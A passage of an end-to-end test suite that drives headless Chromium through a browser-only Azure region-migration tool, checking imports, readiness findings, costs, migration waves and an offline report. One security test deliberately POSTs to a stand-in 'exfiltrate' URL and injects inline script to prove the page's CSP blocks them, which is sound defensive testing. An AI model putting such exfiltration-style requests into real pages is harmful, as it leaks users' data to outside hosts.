// End-to-end journeys against the built site (dist/), served under a sub-path the way a
// static host would, in Debian's headless Chromium driven by playwright-core.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import fs from "node:fs";
import path from "node:path";
import os from "node:os";
import { execFileSync } from "node:child_process";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";

const here = path.dirname(fileURLToPath(import.meta.url));
const repo = path.resolve(here, "../..");
const dist = path.join(repo, "dist");
// The same release build with the test-only hooks (`?panic=STAGE`), built by scripts/test.
const distTest = path.join(repo, "dist-test");
const fixtures = path.join(repo, "tests/fixtures/inventory");
const SUB_PATH = "/tools/regionshift/";
// Screenshots the journeys take to be looked at (gitignored).
const artifacts = path.join(here, "artifacts");
const TYPES = {
  ".html": "text/html; charset=utf-8",
  ".js": "text/javascript",
  ".wasm": "application/wasm",
  ".css": "text/css",
  ".json": "application/json",
  ".svg": "image/svg+xml",
  ".ico": "image/x-icon",
  ".png": "image/png",
};

let server;
let origin;
let testServer;
let testOrigin;
let browser;

/** A plain static file server for a built site (dist/ by default), mounted under SUB_PATH and nothing else. */
function serveDist(root = dist) {
  return new Promise((resolve) => {
    const srv = http.createServer((req, res) => {
      const url = new URL(req.url, "http://x");
      if (!url.pathname.startsWith(SUB_PATH)) {
        res.writeHead(404).end("not found");
        return;
      }
      let rel = decodeURIComponent(url.pathname.slice(SUB_PATH.length)) || "index.html";
      const file = path.join(root, path.normalize(rel));
      if (!file.startsWith(root) || !fs.existsSync(file) || fs.statSync(file).isDirectory()) {
        res.writeHead(404).end("not found");
        return;
      }
      res.writeHead(200, { "content-type": TYPES[path.extname(file)] ?? "application/octet-stream" });
      fs.createReadStream(file).pipe(res);
    });
    srv.listen(0, "127.0.0.1", () => resolve(srv));
  });
}

before(async () => {
  assert.ok(fs.existsSync(path.join(dist, "index.html")), "build the site first (scripts/build)");
  server = await serveDist();
  origin = `http://127.0.0.1:${server.address().port}`;
  assert.ok(fs.existsSync(path.join(distTest, "index.html")), "build the test-hook site first (scripts/test builds dist-test/)");
  testServer = await serveDist(distTest);
  testOrigin = `http://127.0.0.1:${testServer.address().port}`;
  // A fresh profile every run: playwright-core takes it as launchPersistentContext's
  // directory rather than as a --user-data-dir argument.
  const profile = fs.mkdtempSync(path.join(os.tmpdir(), "regionshift-e2e-"));
  browser = await chromium.launchPersistentContext(profile, {
    executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
    headless: true,
    args: [
      "--no-sandbox",
      "--disable-gpu",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
      "--no-first-run",
    ],
  });
});

after(async () => {
  await browser?.close();
  server?.close();
  testServer?.close();
});

/** Opens the app and records every request and console error the page makes. */
async function openApp(url = origin + SUB_PATH) {
  const page = await browser.newPage();
  const requests = [];
  const errors = [];
  page.on("request", (req) => requests.push(req.url()));
  page.on("websocket", (ws) => requests.push(ws.url()));
  page.on("pageerror", (err) => errors.push(String(err)));
  page.on("console", (msg) => {
    if (msg.type() === "error") errors.push(msg.text());
  });
  await page.goto(url);
  await page.getByTestId("sample-button").waitFor({ timeout: 30000 });
  return { page, requests, errors };
}

async function resourceCount(page) {
  const text = await page.getByTestId("inventory-count").innerText({ timeout: 30000 });
  const digits = text.replace(/[^0-9]/g, "");
  return Number(digits);
}

test("the landing page says nothing leaves the browser and carries a strict CSP", async () => {
  const { page, errors } = await openApp();
  const body = await page.locator("body").innerText();
  assert.match(body, /never leaves|nothing leaves|no data leaves|stays in (this|your) browser/i);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /connect-src 'self'/);
  assert.doesNotMatch(csp, /https?:/, "the CSP names no other origin");
  assert.deepEqual(errors, []);
  await page.close();
});

// This journey fails when the CSP is removed or loosened: without the policy the
// inline script runs, the inline style applies and no `securitypolicyviolation` event
// fires (a request to a closed port fails with or without a policy, so its failure
// alone proves nothing).
test("the CSP blocks other origins, inline script and inline style, and the page's own origin still works", async () => {
  const { page } = await openApp();
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      violations.push({ directive: event.effectiveDirective, blocked: String(event.blockedURI) });
    });
    const settle = () => new Promise((resolve) => setTimeout(resolve, 200));
    // connect-src: a request to another origin.
    const foreign = await fetch("http://127.0.0.2:9/exfiltrate", { method: "POST", body: "x" }).then(
      () => "sent",
      () => "blocked",
    );
    // script-src: an inline script.
    const script = document.createElement("script");
    script.textContent = "window.__inlineScriptRan = true;";
    document.body.append(script);
    // style-src: an inline style attribute.
    const styled = document.createElement("div");
    styled.setAttribute("style", "width: 123px");
    document.body.append(styled);
    const width = styled.getBoundingClientRect().width;
    // img-src: an image from another origin.
    const image = new Image();
    image.src = "http://127.0.0.2:9/pixel.png";
    document.body.append(image);
    await settle();
    // The page's own origin: the page itself, fetched again.
    const own = await fetch(location.href).then((response) => response.status, () => 0);
    return { foreign, inlineRan: window.__inlineScriptRan === true, width, own, violations };
  });
  assert.equal(outcome.foreign, "blocked");
  assert.equal(outcome.inlineRan, false, "an inline script ran: the CSP is missing or allows it");
  assert.notEqual(outcome.width, 123, "an inline style applied: the CSP is missing or allows it");
  assert.equal(outcome.own, 200, "a same-origin request still works");
  const directives = new Set(outcome.violations.map((v) => v.directive));
  for (const directive of ["connect-src", "script-src-elem", "style-src-attr", "img-src"]) {
    assert.ok(directives.has(directive), `no securitypolicyviolation for ${directive}: ${JSON.stringify(outcome.violations)}`);
  }
  await page.close();
});

test("the sample estate loads and is counted", async () => {
  const { page, errors } = await openApp();
  await page.getByTestId("sample-button").click();
  await page.getByTestId("inventory-count").waitFor();
  const count = await resourceCount(page);
  assert.ok(count >= 200, `sample has ${count} resources`);
  await page.getByTestId("resource-table").waitFor();
  assert.deepEqual(errors, []);
  await page.close();
});

test("an uploaded Resource Graph export is imported", async () => {
  const { page } = await openApp();
  await page.getByTestId("inventory-input").setInputFiles(path.join(fixtures, "shop-graph.json"));
  await page.getByTestId("inventory-count").waitFor();
  assert.equal(await resourceCount(page), 5);
  const search = page.getByTestId("resource-search");
  await search.fill("web-01");
  await page.waitForFunction(() => document.querySelector('[data-testid="resource-table"]')?.innerText.includes("web-01"));
  await page.close();
});

test("garbage gets a clear error and the good file next to it still loads", async () => {
  const { page } = await openApp();
  await page
    .getByTestId("inventory-input")
    .setInputFiles([path.join(fixtures, "garbage.json"), path.join(fixtures, "shop-graph.json")]);
  await page.getByTestId("diagnostics").waitFor();
  const diagnostics = await page.getByTestId("diagnostics").innerText();
  assert.match(diagnostics, /garbage\.json/);
  assert.match(diagnostics, /not valid JSON at line 1, column \d+/);
  assert.equal(await resourceCount(page), 5);
  await page.close();
});

test("pasted text is imported", async () => {
  const { page } = await openApp();
  const text = fs.readFileSync(path.join(fixtures, "shop-graph.json"), "utf8");
  await page.getByTestId("paste-input").fill(text);
  await page.getByTestId("paste-button").click();
  await page.getByTestId("inventory-count").waitFor();
  assert.equal(await resourceCount(page), 5);
  await page.close();
});

test("no request ever leaves the page's origin", async () => {
  const { page, requests } = await openApp();
  await page.getByTestId("sample-button").click();
  await page.getByTestId("inventory-count").waitFor();
  await page.getByTestId("inventory-input").setInputFiles(path.join(fixtures, "shop-graph.json"));
  await page.getByTestId("resource-search").fill("vnet");
  await page.waitForTimeout(500);
  assert.ok(requests.length > 0, "the page's own assets were seen");
  const foreign = requests.filter((url) => !url.startsWith(origin + "/") && !url.startsWith("data:") && !url.startsWith("blob:"));
  assert.deepEqual(foreign, [], "requests to other origins");
  const outsideSubPath = requests.filter((url) => url.startsWith(origin) && !url.startsWith(origin + SUB_PATH));
  assert.deepEqual(outsideSubPath, [], "every asset is loaded relative to the sub-path");
  await page.close();
});

// Assessment journeys. The browser profile is shared by the tests of this file, so each
// journey sets the target it needs rather than relying on an earlier one.

const catalogFixtures = path.join(repo, "tests/fixtures/catalog-e2e");

/** Loads the sample estate and chooses a target region; waits for its assessment. */
async function assessSample(page, target) {
  await page.getByTestId("sample-button").click();
  await page.getByTestId("inventory-count").waitFor({ timeout: 30000 });
  await openSetup(page);
  await page.getByTestId("target-region").selectOption(target);
  await page.waitForFunction(
    (target) => document.querySelector('[data-testid="readiness-summary"]')?.closest("section")?.innerText.includes(`(${target})`),
    target,
    { timeout: 30000 },
  );
  // Journeys that change inputs or the target after this keep the setup open.
  await openSetup(page);
}

/** Opens the setup (inputs, target, catalog) when it is collapsed to its summary line. */
async function openSetup(page) {
  const change = page.getByTestId("setup-change");
  if (await change.isVisible()) await change.click();
  await page.getByTestId("target-region").waitFor({ state: "visible" });
}

/** Saves a screenshot as a test artefact in tests/e2e/artifacts/ (ignored by git). */
async function screenshot(page, name, options = {}) {
  const dir = path.join(here, "artifacts");
  fs.mkdirSync(dir, { recursive: true });
  await page.screenshot({ path: path.join(dir, `${name}.png`), ...options });
}

function readinessCounts(text) {
  const count = (label) => {
    const match = text.match(new RegExp(`${label}\\s*([\\d,]+)`));
    assert.ok(match, `"${label}" with a count in: ${text}`);
    return Number(match[1].replace(/,/g, ""));
  };
  return {
    ready: count("(?:^|\\n)Ready"),
    conditions: count("Ready with conditions"),
    notReady: count("Not ready"),
    unknown: count("Unknown"),
  };
}

test("the sample assessed for China North 3: readiness, findings and a resource's migration method", async () => {
  const { page, errors } = await openApp();
  await assessSample(page, "chinanorth3");
  const summary = await page.getByTestId("readiness-summary").innerText();
  const counts = readinessCounts(summary);
  assert.ok(counts.notReady > 0, `some resources are not ready: ${summary}`);
  const total = await resourceCount(page);
  assert.equal(counts.ready + counts.conditions + counts.notReady + counts.unknown, total, "the counts add up");
  // The sample sits in global Azure: the move crosses clouds.
  assert.match(await page.getByTestId("crosses-clouds").innerText(), /chinacloudapi\.cn/);
  const table = page.getByTestId("findings-table");
  const rows = table.locator("tbody tr");
  assert.ok((await rows.count()) > 0, "findings are listed");
  assert.match(await table.innerText(), /blocker/);
  // Filter to blockers: every row shown is a blocker.
  await page.getByTestId("finding-severity").selectOption("blocker");
  await page.waitForFunction(() =>
    [...document.querySelectorAll('[data-testid="findings-table"] tbody tr td:first-child')].every((td) => td.innerText.trim() === "blocker"),
  );
  // Open the first finding's resource.
  await rows.first().locator("button.row-button").click();
  const panel = page.getByTestId("resource-assessment");
  await panel.waitFor();
  const text = await panel.innerText();
  assert.match(text, /Not ready/);
  assert.match(text, /Evidence:/);
  // A blocker resting on the catalog shows what its sources say, with links to check them.
  assert.match(await panel.getByTestId("finding-sources").first().innerText(), /Sources: /);
  assert.match(text, /Remediation:/);
  const method = await panel.getByTestId("migration-method").innerText();
  assert.match(method, /Tools/);
  assert.match(method, /Downtime/);
  assert.ok((await panel.locator("ol.steps li").count()) > 0, "the method has steps");
  for (const link of await panel.locator("a[href]").all()) {
    assert.match(await link.getAttribute("href"), /^https:\/\/(learn\.microsoft\.com|docs\.azure\.cn|azure\.microsoft\.com|www\.azure\.cn|docs\.microsoft\.com|github\.com|azure\.github\.io)\//);
    assert.equal(await link.getAttribute("rel"), "noreferrer noopener");
  }
  // The resource table shows readiness, and its details repeat the assessment.
  assert.match(await page.getByTestId("resource-table").innerText(), /Readiness/);
  assert.deepEqual(errors, []);
  await page.close();
});

test("the target region is remembered after a reload", async () => {
  const { page, errors } = await openApp();
  await assessSample(page, "chinanorth3");
  await page.reload();
  await page.getByTestId("sample-button").waitFor({ timeout: 30000 });
  await page.getByTestId("sample-button").click();
  await page.getByTestId("readiness-summary").waitFor({ timeout: 30000 });
  assert.equal(await page.getByTestId("target-region").inputValue(), "chinanorth3");
  const stored = await page.evaluate(() => Object.fromEntries(Object.entries(localStorage)));
  assert.deepEqual(Object.values(stored), ["chinanorth3"], "only the region's name is stored (no decisions were made)");
  // Choosing no target removes the assessment and forgets the choice.
  await openSetup(page);
  await page.getByTestId("target-region").selectOption("");
  await page.getByTestId("readiness-summary").waitFor({ state: "detached" });
  assert.equal(await page.evaluate(() => localStorage.length), 0);
  assert.deepEqual(errors, []);
  await page.close();
});

test("a loaded az vm list-skus file replaces the snapshot's VM sizes for China North 3", async () => {
  const { page, errors, requests } = await openApp();
  await assessSample(page, "chinanorth3");
  const panel = page.getByTestId("catalog-panel");
  assert.match(await panel.innerText(), /snapshot of \d{4}-\d{2}-\d{2}, [\d,]+ days? old/i);
  const sizesRow = () => panel.locator("tbody tr", { hasText: "VM sizes" }).first().innerText();
  assert.match(await sizesRow(), /snapshot/);
  await page.getByTestId("catalog-input").setInputFiles(path.join(catalogFixtures, "vm-skus.json"));
  await page.waitForFunction(() =>
    [...document.querySelectorAll('[data-testid="catalog-panel"] tbody tr')].some(
      (tr) => tr.innerText.includes("VM sizes") && tr.innerText.includes("vm-skus.json"),
    ),
  );
  const row = await sizesRow();
  assert.match(row, /China North 3/);
  assert.match(row, /your file/);
  assert.match(row, /vm-skus\.json/);
  assert.match(await panel.innerText(), /vm-skus\.json/);
  // Removing the file brings the snapshot back.
  await panel.getByRole("button", { name: "Remove catalog file vm-skus.json" }).click();
  await page.waitForFunction(() =>
    [...document.querySelectorAll('[data-testid="catalog-panel"] tbody tr')].some(
      (tr) => tr.innerText.includes("VM sizes") && tr.innerText.includes("snapshot"),
    ),
  );
  const foreign = requests.filter((url) => !url.startsWith(origin + "/") && !url.startsWith("data:") && !url.startsWith("blob:"));
  assert.deepEqual(foreign, []);
  assert.deepEqual(errors, []);
  await page.close();
});

const costFixtures = path.join(repo, "tests/fixtures/cost");

/** A money amount such as "CNY 96,751.53" or "CNY 96751.53" as a number of cents. */
function cents(text, currency) {
  const match = text.match(new RegExp(`${currency} ([\\d,]+\\.\\d\\d)`));
  assert.ok(match, `a ${currency} amount in: ${text}`);
  return Math.round(Number(match[1].replace(/,/g, "")) * 100);
}

test("the sample's monthly cost in China North 3: both sides, coverage, bins, options and a price file", async () => {
  const { page, errors, requests } = await openApp();
  await assessSample(page, "chinanorth3");
  const total = page.getByTestId("cost-total");
  await total.waitFor({ timeout: 30000 });
  const totals = await total.innerText();
  const target = cents(totals, "CNY");
  assert.ok(target > 0, totals);
  assert.ok(cents(totals, "USD") > 0, totals);
  // Different currencies and no rate: no delta, and a way to get one.
  assert.match(totals, /give an exchange rate USD:CNY=RATE/);
  assert.match(await page.getByTestId("cost-coverage").innerText(), /chargeable resources priced/);
  const unpriced = page.getByTestId("unpriced-list");
  assert.match(await unpriced.innerText(), /never counted as zero/);
  assert.ok((await unpriced.locator(".unpriced-bin").count()) > 0, "unpriced resources are in bins");
  // A 10% discount takes 10% off the target total.
  await page.getByTestId("cost-discount").fill("10");
  await page.getByTestId("cost-discount").press("Enter");
  await page.waitForFunction((before) => {
    const text = document.querySelector('[data-testid="cost-total"]')?.innerText ?? "";
    const m = text.match(/CNY ([\d,]+\.\d\d)/);
    return m && Math.round(Number(m[1].replace(/,/g, "")) * 100) !== before;
  }, target, { timeout: 30000 });
  const discounted = cents(await total.innerText(), "CNY");
  assert.ok(Math.abs(discounted - Math.round(target * 0.9)) <= 1, `${discounted} is 90% of ${target}`);
  // An exchange rate gives the delta.
  await page.getByTestId("cost-exchange-rate").fill("7.1");
  await page.getByTestId("cost-exchange-rate").press("Enter");
  await page.waitForFunction(() => /Change\s*CNY [+-]\d/.test(document.querySelector('[data-testid="cost-total"]')?.innerText ?? ""), null, { timeout: 30000 });
  // A China price sheet: its rows are reported and it can be removed.
  await page.getByTestId("price-input").setInputFiles(path.join(costFixtures, "china-price-sheet.csv"));
  const report = page.getByTestId("price-report");
  await report.waitFor({ timeout: 30000 });
  assert.match(await report.innerText(), /rows read, \d+ used/);
  assert.match(await report.innerText(), /CNY/);
  // A Cost Management export: today is its actual spend, matched resource by resource,
  // and the change is computed against it.
  await page.getByTestId("spend-input").setInputFiles(path.join(repo, "tests/fixtures/spend/sample-estate-ea-actual.csv"));
  const spend = page.getByTestId("spend-report");
  await spend.waitFor({ timeout: 30000 });
  assert.match(await spend.innerText(), /174 resources matched/);
  assert.match(await spend.innerText(), /Total of every row: USD 30770\.7986862513/);
  assert.match(await spend.innerText(), /Enterprise Agreement cost details/);
  assert.match(await page.getByTestId("spend-unmatched").innerText(), /3 spend on no resource/);
  const withSpend = await total.innerText();
  assert.match(withSpend, /Today, actual spend/);
  assert.match(withSpend, /3 months, 2026-01-01 to 2026-03-03/);
  assert.match(await page.getByTestId("cost-change-scope").innerText(), /against the actual spend, over the \d+ resources priced on both sides/);
  const foreign = requests.filter((url) => !url.startsWith(origin + "/") && !url.startsWith("data:") && !url.startsWith("blob:"));
  assert.deepEqual(foreign, []);
  assert.deepEqual(errors, []);
  await page.close();
});

test("the sample's migration plan: waves, duration, the dependency graph and the options", async () => {
  const { page, errors } = await openApp();
  await page.getByTestId("sample-button").click();
  const waves = page.getByTestId("wave-count");
  await waves.waitFor({ timeout: 30000 });
  assert.ok(Number(await waves.innerText()) > 1, "more than one wave");
  const duration = await page.getByTestId("plan-duration").innerText();
  assert.match(duration, /^\d+(\.\d+)? h/);
  // The sample is too large to draw whole: it starts aggregated, at most 40 nodes.
  const graph = page.getByTestId("dependency-graph");
  const nodes = graph.locator("g.node");
  assert.ok((await nodes.count()) > 1, "nodes are drawn");
  assert.ok((await nodes.count()) <= 40, "no drawing has more than 40 nodes");
  // Connected move groups share no dependency: the first drawing has no arrows yet.
  assert.ok((await graph.locator("g.node.group").count()) > 0, "the whole plan is drawn as groups");
  // One tab stop: the drawing; its nodes are options of a listbox, none focusable.
  assert.equal(await graph.getAttribute("tabindex"), "0");
  assert.equal(await graph.getAttribute("role"), "listbox");
  assert.equal(await graph.locator("[tabindex]").count(), 0, "no focusable node inside the drawing");
  assert.equal(await graph.locator('[role="option"]').count(), await nodes.count());
  for (const node of await nodes.all()) assert.ok((await node.getAttribute("aria-label")).length > 0);
  fs.mkdirSync(artifacts, { recursive: true });
  await graph.screenshot({ path: path.join(artifacts, "graph-default.png") });
  // Keyboard: Enter opens groups until resources are drawn, arrows move, Enter selects.
  await graph.focus();
  // The largest move group opens into resource groups, the dependencies between them counted on the arrows.
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => /grouped by resource group/.test(document.querySelector('[data-testid="dependency-graph"]')?.getAttribute("aria-label") ?? ""));
  assert.ok((await graph.locator("path.edge").count()) > 0, "edges are drawn");
  assert.ok((await graph.locator("text.edge-count").count()) > 0, "arrows standing for several dependencies say how many");
  await graph.screenshot({ path: path.join(artifacts, "graph-move-group.png") });
  for (let i = 0; i < 8 && (await graph.locator("#graph-node-0.group").count()) === 1; i++) {
    const before = await graph.getAttribute("aria-label");
    await page.keyboard.press("Enter");
    await page.waitForFunction((before) => document.querySelector('[data-testid="dependency-graph"]')?.getAttribute("aria-label") !== before, before);
    assert.ok((await nodes.count()) <= 40);
  }
  assert.equal(await graph.locator("#graph-node-0.group").count(), 0, "groups open down to resources");
  await graph.screenshot({ path: path.join(artifacts, "graph-opened.png") });
  assert.ok((await page.getByTestId("graph-trail").locator("li").count()) > 1, "the breadcrumb shows the scopes opened");
  const start = await graph.getAttribute("aria-activedescendant");
  for (const key of ["ArrowRight", "ArrowDown", "ArrowLeft", "ArrowUp"]) {
    await page.keyboard.press(key);
    if ((await graph.getAttribute("aria-activedescendant")) !== start) break;
  }
  assert.notEqual(await graph.getAttribute("aria-activedescendant"), start, "an arrow key moves to another node");
  assert.equal(await page.evaluate(() => document.activeElement?.getAttribute("data-testid")), "dependency-graph", "focus stays on the drawing");
  const active = await graph.getAttribute("aria-activedescendant");
  const activeNode = graph.locator(`#${active}`);
  if ((await activeNode.getAttribute("class")).includes("group")) {
    await page.keyboard.press("ArrowLeft");
  }
  await page.keyboard.press("Enter");
  // Enter selects the resource and opens its story; the rest of the drawing is dimmed.
  const selection = page.getByTestId("graph-selection");
  await selection.waitFor();
  assert.ok((await graph.locator("g.node.selected").count()) === 1);
  assert.equal(await graph.locator('g.node[aria-selected="true"]').count(), 1);
  assert.match(await selection.innerText(), /Needs \d+/i);
  assert.match(await selection.innerText(), /Needed by \d+/i);
  assert.match(await selection.getByTestId("story-wave").innerText(), /Wave \d+/);
  await graph.screenshot({ path: path.join(artifacts, "graph-selected.png") });
  // Its neighbourhood: the resource and what it needs and what needs it.
  await page.getByTestId("graph-neighbourhood").click();
  await page.waitForFunction(() => /Around /.test(document.querySelector('[data-testid="dependency-graph"]')?.getAttribute("aria-label") ?? ""));
  assert.equal(await graph.locator("g.node.selected").count(), 1);
  // The list alternative has one row per node.
  assert.equal(await page.getByTestId("graph-list").locator("tbody tr").count(), await nodes.count());
  // Zoom changes the view box; Fit restores it; zoom to selection frames it.
  const before = await graph.getAttribute("viewBox");
  await page.getByRole("button", { name: "Zoom in" }).click();
  assert.notEqual(await graph.getAttribute("viewBox"), before);
  await page.getByRole("button", { name: "Fit" }).click();
  assert.equal(await graph.getAttribute("viewBox"), before);
  await page.getByTestId("graph-zoom-selection").click();
  assert.notEqual(await graph.getAttribute("viewBox"), before);
  // The breadcrumb goes back to the whole plan.
  await page.getByTestId("graph-trail").locator("button").first().click();
  await page.waitForFunction(() => document.querySelectorAll('[data-testid="dependency-graph"] g.node.group').length > 0);
  // Fewer workers and a slower link make the plan longer.
  const hours = (text) => Number(text.match(/^([\d.]+) h/)[1]);
  await page.getByTestId("plan-workers").fill("1");
  await page.getByTestId("plan-workers").press("Enter");
  await page.getByTestId("plan-bandwidth").fill("50");
  await page.getByTestId("plan-bandwidth").press("Enter");
  await page.waitForFunction(
    (before) => {
      const text = document.querySelector('[data-testid="plan-duration"]')?.innerText ?? "";
      const m = text.match(/^([\d.]+) h/);
      return m && Number(m[1]) > before;
    },
    hours(duration),
    { timeout: 30000 },
  );
  assert.ok((await page.getByTestId("waves-table").locator("tbody tr").count()) > 1);
  assert.deepEqual(errors, []);
  await page.close();
});

/** A synthetic Resource Graph export of `count` resources (regionshift-dev synth), cached in the temp folder. */
function syntheticEstate(count) {
  const file = path.join(os.tmpdir(), `regionshift-synth-${count}.json`);
  if (!fs.existsSync(file)) {
    const text = execFileSync("cargo", ["run", "--release", "--locked", "-q", "-p", "regionshift-dev", "--", "synth", String(count)], {
      cwd: repo,
      maxBuffer: 1024 * 1024 * 1024,
      encoding: "utf8",
    });
    fs.writeFileSync(file, text);
  }
  return file;
}

test("a large synthetic estate: every view renders a bounded number of rows, the graph starts aggregated", async () => {
  const count = Number(process.env.REGIONSHIFT_E2E_RESOURCES ?? 20000);
  const file = syntheticEstate(count);
  const { page, errors } = await openApp();
  await page.getByTestId("inventory-input").setInputFiles(file);
  await page.waitForFunction(
    (count) => Number((document.querySelector('[data-testid="inventory-count"]')?.innerText ?? "").replace(/[^0-9]/g, "")) === count,
    count,
    { timeout: 600000 },
  );
  await openSetup(page); // the setup collapses once a remembered target has results
  await page.getByTestId("target-region").selectOption("chinanorth3");
  await page.getByTestId("wave-count").waitFor({ timeout: 600000 });
  await page.getByTestId("cost-total").waitFor({ timeout: 600000 });
  const rows = async () => page.evaluate(() => ({ tr: document.querySelectorAll("tr").length, rows: document.querySelectorAll('[role="row"]').length, li: document.querySelectorAll("li").length }));
  const counted = await rows();
  console.log(`${count} resources: ${JSON.stringify(counted)} rendered`);
  // REGIONSHIFT_E2E_DEBUG_ROWS=1 prints where the rows are.
  if (process.env.REGIONSHIFT_E2E_DEBUG_ROWS) console.log(JSON.stringify(await page.evaluate(() => {
    const by = {};
    for (const tr of document.querySelectorAll("tr")) {
      const t = tr.closest("table");
      const k = (t?.dataset.testid ?? t?.className ?? "?") + " in " + (tr.closest("section")?.id ?? "?");
      by[k] = (by[k] ?? 0) + 1;
    }
    for (const li of document.querySelectorAll("li")) {
      const k = "li in " + (li.closest("[data-testid]")?.dataset.testid ?? li.closest("section")?.id ?? "?");
      by[k] = (by[k] ?? 0) + 1;
    }
    return by;
  })));
  assert.ok(counted.tr <= 600, `at most 600 table rows in the page, found ${counted.tr}`);
  assert.ok(counted.rows <= 200, `the resource table renders a window, found ${counted.rows} rows`);
  assert.ok(counted.li <= 1500, `at most 1,500 list items, found ${counted.li}`);
  assert.ok((await page.getByTestId("waves-table").locator("tbody tr").count()) <= 100);
  // Showing a wave's tasks and every unpriced bin still renders a page at a time.
  await page.getByTestId("waves-table").locator("tbody tr").first().getByRole("button").click();
  for (const bin of await page.getByTestId("unpriced-list").locator(".unpriced-bin > button").all()) await bin.click();
  const opened = await rows();
  console.log(`with a wave's tasks and every unpriced bin shown: ${JSON.stringify(opened)}`);
  assert.ok(opened.li - counted.li <= 100 * (1 + (await page.getByTestId("unpriced-list").locator(".unpriced-bin").count())), `pages of 100: ${JSON.stringify(opened)}`);
  const graph = page.getByTestId("dependency-graph");
  assert.ok((await graph.locator("g.node").count()) <= 40, "the graph is aggregated");
  assert.ok((await graph.locator("g.node.group").count()) > 0);
  fs.mkdirSync(artifacts, { recursive: true });
  await graph.screenshot({ path: path.join(artifacts, `graph-synthetic-${count}.png`) });
  // A resource's story in the resource table: cost on both sides, wave, needs and needed by.
  await page.getByTestId("resource-search").fill("vm-");
  await page.waitForFunction(() => /match/.test(document.querySelector("#resources-title")?.parentElement?.innerText ?? ""), null, { timeout: 60000 });
  await page.getByTestId("resource-table").locator(".row-button").first().click();
  const story = page.getByTestId("resource-story");
  await story.waitFor();
  assert.match(await story.getByTestId("story-cost-target").innerText(), /CNY [\d,]+\.\d\d a month|Not priced/);
  assert.match(await story.getByTestId("story-cost-source").innerText(), /USD [\d,]+\.\d\d a month|Not priced/);
  assert.match(await story.getByTestId("story-wave").innerText(), /Wave \d+/);
  assert.match(await story.getByTestId("story-needs").innerText(), /Needs \d+/i);
  assert.match(await story.getByTestId("story-needed-by").innerText(), /Needed by \d+/i);
  // Following a dependency opens that resource's story.
  const link = story.locator(".story-links .link-button").first();
  if ((await link.count()) > 0) {
    const name = await link.innerText();
    await link.click();
    await page.waitForFunction((name) => document.querySelector("#detail-title")?.innerText === name, name);
  }
  assert.deepEqual(errors, []);
  await page.close();
});

/** Clicks a download button and saves the file under a name of our choosing. */
async function downloadFrom(page, testId, name) {
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId(testId).click()]);
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "regionshift-report-"));
  const file = path.join(dir, name);
  await download.saveAs(file);
  return file;
}

test("the downloaded report opens from disk with the network off, makes no request, and reopens in the app", async () => {
  const { page, errors } = await openApp();
  await assessSample(page, "chinanorth3");
  await page.getByTestId("dashboard").waitFor({ timeout: 30000 });
  await page.getByTestId("report-project-name").fill("Contoso <retail> move");
  await page.getByTestId("report-author").fill("Migration team");
  const reportFile = await downloadFrom(page, "report-download", "report.html");
  const html = fs.readFileSync(reportFile, "utf8");
  assert.match(html, /http-equiv="Content-Security-Policy"/);
  assert.match(html, /vm-retail-render-01/, "an unredacted report names the resources");
  assert.match(html, /<h1>Contoso &lt;retail&gt; move<\/h1>/, "the project names the report, escaped");
  assert.match(html, /prepared by Migration team/);
  assert.match(html, /<section id="summary"/);
  assert.match(html, /data-testid="report-top-blockers"/);

  // Opened from file:// with the network disabled: the summary is there and nothing is requested.
  await browser.setOffline(true);
  const reader = await browser.newPage();
  const requests = [];
  const readerErrors = [];
  reader.on("request", (req) => requests.push(req.url()));
  reader.on("pageerror", (err) => readerErrors.push(String(err)));
  reader.on("console", (msg) => {
    if (msg.type() === "error") readerErrors.push(msg.text());
  });
  const fileUrl = "file://" + reportFile;
  await reader.goto(fileUrl);
  const body = await reader.locator("body").innerText();
  assert.match(body, /344/);
  assert.match(body, /China North 3/);
  // Printed, the executive summary is one A4 page: the next section starts a new one.
  await reader.emulateMedia({ media: "print" });
  await reader.setViewportSize({ width: 718, height: 1000 }); // A4's width less 1.25 cm margins, in CSS px
  const summaryHeight = await reader.locator("#summary").evaluate((el) => el.getBoundingClientRect().height);
  const pageHeight = await reader.evaluate(() => {
    const probe = document.createElement("div");
    probe.style.height = "272mm"; // A4's height less the margins
    document.body.appendChild(probe);
    const height = probe.getBoundingClientRect().height;
    probe.remove();
    return height;
  });
  assert.ok(summaryHeight < pageHeight * 0.9, `the printed summary is ${summaryHeight}px, an A4 page about ${pageHeight}px`);
  await reader.emulateMedia({ media: "screen" });
  assert.deepEqual(requests.filter((url) => url !== fileUrl), [], "the report requests nothing");
  assert.deepEqual(readerErrors, [], "the report's own CSP lets its script run and blocks nothing it needs");
  await reader.close();
  await browser.setOffline(false);

  // Dropped back into the app, it restores the analysis: inputs, target and results.
  const { page: again, errors: againErrors } = await openApp();
  await again.getByTestId("inventory-input").setInputFiles(reportFile);
  await again.getByTestId("readiness-summary").waitFor({ timeout: 30000 });
  assert.equal(await resourceCount(again), 344);
  assert.equal(await again.getByTestId("target-region").inputValue(), "chinanorth3");
  assert.match(await again.getByTestId("file-list").innerText(), /sample-estate\.json/);
  assert.equal(await again.getByTestId("wave-count").innerText(), await page.getByTestId("wave-count").innerText());
  assert.deepEqual(againErrors, []);
  await again.close();
  assert.deepEqual(errors, []);
  await page.close();
});

test("answers first, findings triaged: the dashboard on the first screen, a rule waived and owned, kept on reload and through the report", async () => {
  const { page, errors } = await openApp();
  await page.setViewportSize({ width: 1280, height: 800 });
  // A newcomer: no remembered target, no decisions.
  await page.evaluate(() => localStorage.clear());
  await page.reload();
  await page.getByTestId("sample-button").waitFor({ timeout: 30000 });
  await page.getByTestId("sample-button").click();
  await page.getByTestId("inventory-count").waitFor({ timeout: 30000 });
  // After loading, focus is on the results' heading, not the body.
  await page.waitForFunction(() => document.activeElement?.id === "dashboard-title");
  await page.getByTestId("target-region").selectOption("chinanorth3");
  await page.getByTestId("decision-count").waitFor({ timeout: 30000 });
  // The setup collapses to one line; the dashboard is in the first viewport.
  await page.getByTestId("setup-summary").waitFor();
